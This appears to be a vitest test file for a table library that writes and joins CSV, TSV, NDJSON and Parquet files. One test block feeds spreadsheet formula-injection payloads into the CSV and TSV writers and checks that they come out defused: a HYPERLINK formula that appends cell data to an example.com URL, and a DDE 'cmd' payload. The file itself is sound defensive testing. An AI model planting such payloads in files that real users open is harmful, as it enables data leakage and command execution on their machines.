import { appendFileSync, readFileSync } from "node:fs";
import { type OutputColumn, openTable, readParquet, writeTable } from "@clusterwhy/table";
import { describe, expect, it } from "vitest";
import { cells, columnsOf, csv, failure, file, pathFor } from "./files.js";

const COLUMNS: OutputColumn[] = [
  { name: "row", type: "integer", values: Int32Array.of(0, 1, 2, 3) },
  { name: "x", type: "float", values: Float32Array.of(0.1, -2.5, Number.NaN, 1e30) },
  { name: "p", type: "double", values: Float64Array.of(1 / 3, Number.POSITIVE_INFINITY, 5e-324, -0) },
  { name: "noise", type: "boolean", values: Uint8Array.of(0, 1, 1, 0) },
  { name: "segment", type: "string", values: ["1", "1.2", null, 'a "b", c\nd'] },
];

describe("writeTable", () => {
  it.each(["csv", "tsv", "ndjson", "jsonl", "parquet"])("%s comes back as it was", async (ending) => {
    const path = pathFor(`out.${ending}`);
    await writeTable(path, COLUMNS);
    const back = await columnsOf(path, { id: "row" });
    expect(cells(back.row)).toEqual([0, 1, 2, 3]);
    expect([...Float32Array.from(cells(back.x) as number[])]).toEqual([
      Math.fround(0.1),
      -2.5,
      0,
      Math.fround(1e30),
    ]);
    // JSON has no infinity.
    if (!ending.includes("json") && ending !== "jsonl")
      expect(cells(back.p)).toEqual([1 / 3, Number.POSITIVE_INFINITY, 5e-324, -0]);
    expect(cells(back.noise)).toEqual([0, 1, 1, 0]);
    expect(cells(back.segment)).toEqual(["1", "1.2", null, 'a "b", c\nd']);
  });

  it("writes the text that one would write by hand", async () => {
    const path = pathFor("out.csv");
    await writeTable(path, [COLUMNS[0], COLUMNS[3], COLUMNS[4]]);
    expect(readFileSync(path, "utf8")).toBe(
      'row,noise,segment\n0,false,1\n1,true,1.2\n2,true,\n3,false,"a ""b"", c\nd"\n',
    );
  });

  it.each(["csv", "ndjson", "parquet"])("equal columns give equal bytes: %s", async (ending) => {
    const numRows = 30_000;
    const many: OutputColumn[] = [
      { name: "n", type: "double", values: Float64Array.from({ length: numRows }, (_, i) => Math.sqrt(i)) },
      { name: "s", type: "string", values: Array.from({ length: numRows }, (_, i) => `v${(i * i) % 97}`) },
    ];
    const [first, second] = [pathFor(`a.${ending}`), pathFor(`b.${ending}`)];
    await writeTable(first, many);
    await writeTable(second, many);
    expect(readFileSync(first).equals(readFileSync(second))).toBe(true);
    const back = await columnsOf(first);
    expect(cells(back.n)).toEqual([...(many[0].values as Float64Array)]);
  });
});

describe("cells that a spreadsheet would run", () => {
  const formula = '=HYPERLINK("http://example.com/"&A1,"open")';

  it.each(["csv", "tsv"])("are text in %s: names, read values and added values", async (ending) => {
    const source = file("t.csv", 'who,-a(b),n\n@SUM(A1),x,-1.5\n"\'=1","+43 660 1",-2\n-,y,+3\n');
    const opened = await openTable(source);
    const path = pathFor(`joined.${ending}`);
    await opened.writeJoined(path, [
      { name: formula, type: "string", values: [formula, "-1+cmd|'x'!A0", ""] },
    ]);
    await opened.close();
    const split = ending === "csv" ? "," : "\t";
    const quoted = (text: string) => (/[",]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
    expect(readFileSync(path, "utf8").split("\n")).toEqual([
      ["who", "'-a(b)", "n", quoted(`'${formula}`)].join(split),
      ["'@SUM(A1)", "x", "-1.5", quoted(`'${formula}`)].join(split),
      [quoted("''=1"), "+43 660 1", "-2", quoted("'-1+cmd|'x'!A0")].join(split),
      ["-", "y", "+3", '""'].join(split),
      "",
    ]);
  });

  it.each(["ndjson", "parquet"])("stay as they are in %s, which spreadsheets do not run", async (ending) => {
    const path = pathFor(`out.${ending}`);
    await writeTable(path, [{ name: "v", type: "string", values: [formula, "@x"] }]);
    expect(cells((await columnsOf(path)).v)).toEqual([formula, "@x"]);
  });
});

describe("writeJoined", () => {
  it("refuses to join rows with a file that was changed since they were read", async () => {
    const path = file("t.csv", "n,v\n1,a\n2,b\n");
    const opened = await openTable(path);
    appendFileSync(path, "3,c\n");
    const joined = opened.writeJoined(pathFor("joined.csv"), [
      { name: "segment", type: "string", values: ["x", "y"] },
    ]);
    expect((await failure(joined)).code).toBe("INPUT_CHANGED");
    await opened.close();
  });

  it("keeps the original columns as they were written, and their order", async () => {
    const text = 'id,when,amount,flag,note\n007,01/02/2024,1.50,yes,"a, b"\n008,,NA,no,\n';
    const opened = await openTable(file("t.csv", text));
    const path = pathFor("joined.csv");
    await opened.writeJoined(path, [{ name: "segment", type: "string", values: ["1", "2.1"] }]);
    await opened.close();
    expect(readFileSync(path, "utf8")).toBe(
      'id,when,amount,flag,note,segment\n007,01/02/2024,1.50,yes,"a, b",1\n008,,NA,no,,2.1\n',
    );
  });

  it("follows limit and condition", async () => {
    const path = file("t.csv", "n,v\n1,a\n2,b\n3,a\n4,b\n");
    for (const [options, expected] of [
      [{ limit: 2 }, "n,v,segment\n1,a,x\n2,b,y\n"],
      [{ where: "v = 'b'" }, "n,v,segment\n2,b,x\n4,b,y\n"],
    ] as const) {
      const opened = await openTable(path, options);
      const out = pathFor("joined.csv");
      await opened.writeJoined(out, [{ name: "segment", type: "string", values: ["x", "y"] }]);
      await opened.close();
      expect(readFileSync(out, "utf8")).toBe(expected);
    }
  });

  it("numbers an extra column whose name is taken", async () => {
    const opened = await openTable(file("t.csv", "segment,v\na,1\nb,2\n"));
    const path = pathFor("joined.csv");
    await opened.writeJoined(path, [{ name: "Segment", type: "string", values: ["1", "2"] }]);
    await opened.close();
    expect(readFileSync(path, "utf8")).toBe("segment,v,Segment_2\na,1,1\nb,2,2\n");
  });
});

describe("readParquet", () => {
  it("reads what writeTable wrote", async () => {
    const path = pathFor("rows.parquet");
    await writeTable(path, COLUMNS);
    const { numRows, columns } = await readParquet(path);
    expect(numRows).toBe(4);
    expect(columns.map(({ name, type }) => [name, type])).toEqual([
      ["row", "number"],
      ["x", "number"],
      ["p", "number"],
      ["noise", "boolean"],
      ["segment", "string"],
    ]);
  });

  it("says when a file is cut short", async () => {
    const path = pathFor("rows.parquet");
    await writeTable(path, COLUMNS);
    const cut = file("cut.parquet", readFileSync(path).subarray(0, -9));
    expect(await failure(readParquet(cut))).toMatchObject({ code: "PARQUET_DAMAGED", category: "model" });
  });
});

it("the writer's fields survive a round trip through csv", async () => {
  const odd = ["", " lead", "tab\t", '"', "NULL", "日本語", "a\r\nb"];
  const path = pathFor("odd.csv");
  await writeTable(path, [{ name: "v", type: "string", values: odd }]);
  const { v } = await csv(readFileSync(path, "utf8"));
  // Empty text and the word NULL cannot be told from a missing value in CSV.
  expect(cells(v)).toEqual([null, " lead", "tab\t", '"', null, "日本語", "a\r\nb"]);
});
